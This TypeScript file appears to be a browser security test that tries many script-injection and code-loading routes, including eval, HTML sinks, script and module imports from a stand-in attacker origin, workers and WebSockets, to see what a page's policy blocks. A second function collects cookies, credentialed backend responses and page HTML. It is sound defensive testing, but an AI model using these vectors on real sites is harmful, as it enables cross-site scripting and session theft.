/** What a function below finds and leaves behind in the page. */
interface Corrupted {
  readonly attacker: string;
  readonly readable: readonly string[];
  readonly trustedTypes: { createPolicy(name: string, rules: object): object };
  readonly eval: (text: string) => number;
  readonly Function: (text: string) => () => number;
  left: unknown;
}

/** Becomes part of the app's script: all that makes code of text, loads code or sends away what it sees. */
export async function attack(): Promise<void> {
  const here = globalThis as unknown as Corrupted;
  const { attacker } = here;
  // A timer takes it as text; TypeScript would rather have a function.
  const timed = (name: string) => run(name) as unknown as () => void;
  const run = (name: string) => `(globalThis.ran ??= []).push('${name}')`;
  const added = <T extends HTMLElement>(element: T) => document.body.appendChild(element);
  const first = (target: EventTarget, good: string) =>
    new Promise((resolve, reject) => {
      target.addEventListener(good, resolve);
      target.addEventListener('error', reject);
    });
  const load = (element: HTMLElement) => first(added(element), 'load');
  const make = (tag: string, attributes: object) => Object.assign(document.createElement(tag), attributes);
  const image = `<img src="/nowhere.png" onerror="${run('markup')}">`;
  const attempts: Record<string, () => unknown> = {
    eval: () => here.eval(run('eval')),
    'new Function': () => here.Function(run('Function'))(),
    'a timer with a text': () => {
      if (Number(setTimeout(timed('setTimeout'))) === 0) throw new Error('refused');
    },
    'an interval with a text': () => {
      if (Number(setInterval(timed('setInterval'), 10_000)) === 0) throw new Error('refused');
    },
    innerHTML: () => (added(document.createElement('div')).innerHTML = image),
    outerHTML: () => (added(document.createElement('div')).outerHTML = image),
    insertAdjacentHTML: () => document.body.insertAdjacentHTML('beforeend', image),
    'a parsed document': () => new DOMParser().parseFromString(image, 'text/html'),
    'a fragment': () => document.createRange().createContextualFragment(image),
    'the text of a script': () => added(make('script', { text: run('text') })),
    'the source of a script': () => load(make('script', { src: `${attacker}/x.js` })),
    'an import': () => import(`${attacker}/x.js`),
    'a frame with a document': () => added(make('iframe', { srcdoc: `<script>${run('srcdoc')}</script>` })),
    'a worker': () => first(new Worker(`${attacker}/x.js`), 'message'),
    'a worker of text': () => new Worker(URL.createObjectURL(new Blob([run('worker')]))),
    'a service worker': () => navigator.serviceWorker.register('/x.js'),
    'a Trusted Types policy': () => here.trustedTypes.createPolicy('default', {}),
    fetch: () => fetch(attacker, { mode: 'no-cors' }),
    'a picture': () => load(make('img', { src: `${attacker}/x.png` })),
    'a style sheet': () => load(make('link', { rel: 'stylesheet', href: `${attacker}/x.css` })),
    'a WebSocket': () => first(new WebSocket(attacker.replace('http', 'ws')), 'open'),
    // The last: it begins a new document.
    'document.write': () => document.write('<p>'),
  };
  const outcomes: Record<string, string> = {};
  for (const [name, attempt] of Object.entries(attempts)) {
    try {
      await attempt();
      outcomes[name] = 'passed';
    } catch {
      outcomes[name] = 'refused';
    }
  }
  here.left = outcomes;
}

/** Becomes part of the app's script: reads what it can of the cookies, and whatever the BFF answers. */
export async function lookAround(): Promise<void> {
  const settings = document.querySelector('meta[name=settings]')?.getAttribute('content') ?? '{}';
  const { bffOrigin } = JSON.parse(settings) as { bffOrigin: string };
  const here = globalThis as unknown as Corrupted;
  const answers = here.readable.map(async (path) => {
    const answer = await fetch(bffOrigin + path, { credentials: 'include', headers: { 'X-CSRF': '1' } });
    return [answer.status, ...answer.headers, await answer.text()];
  });
  here.left = {
    cookies: document.cookie,
    store: await cookieStore.getAll(),
    answers: await Promise.all(answers),
    page: document.documentElement.outerHTML,
  };
}
